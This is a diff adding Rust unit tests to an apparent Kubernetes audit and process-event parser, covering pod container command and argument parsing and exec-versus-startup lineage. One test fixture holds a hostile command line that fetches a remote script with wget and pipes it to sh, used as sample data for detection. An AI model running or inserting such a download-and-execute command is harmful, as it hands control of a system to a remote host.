@@ -942,6 +942,29 @@ mod tests {
     }
 
     #[test]
+    fn pod_create_keeps_command_and_args() {
+        let e = one(&rec(
+            r#""level":"Request","stage":"ResponseComplete","verb":"create",
+            "objectRef":{"resource":"pods","namespace":"shop","name":"web"},"responseStatus":{"code":201},
+            "requestObject":{"metadata":{"name":"web"},"spec":{"containers":[
+                {"name":"nginx","image":"nginx:1.28","command":["/docker-entrypoint.sh"],"args":["nginx","-g","daemon off;"]},
+                {"name":"args-only","image":"nginx:1.28","args":["nginx-debug"]},
+                {"name":"odd","image":"nginx:1.28","command":"not a list","args":[1,2]}]}}"#,
+        ));
+        let EventKind::PodCreate(p) = e.kind else {
+            panic!()
+        };
+        let c = &p.containers;
+        assert_eq!(c.len(), 3);
+        assert_eq!(c[0].command, ["/docker-entrypoint.sh"]);
+        assert_eq!(c[0].args, ["nginx", "-g", "daemon off;"]);
+        assert!(c[1].command.is_empty());
+        assert_eq!(c[1].args, ["nginx-debug"]);
+        // Malformed lists cost the list, not the pod.
+        assert!(c[2].command.is_empty() && c[2].args.is_empty());
+    }
+
+    #[test]
     fn generate_name_without_response_is_a_marked_prefix() {
         let e = one(&rec(
             r#""level":"Request","stage":"ResponseComplete","verb":"create",
@@ -1031,6 +1054,8 @@ mod tests {
         assert_eq!(&*p.exe, "/bin/sh");
         assert_eq!(p.cmdline, "/bin/sh -c wget -qO- http://198.51.100.4/s|sh");
         assert_eq!(p.user.as_deref(), Some("alice"));
+        // Never the container's own start-up, whatever its command line.
+        assert!(p.lineage.exec && !p.lineage.is_startup());
         let Placement::Container(c) = p.placement else {
             panic!()
         };
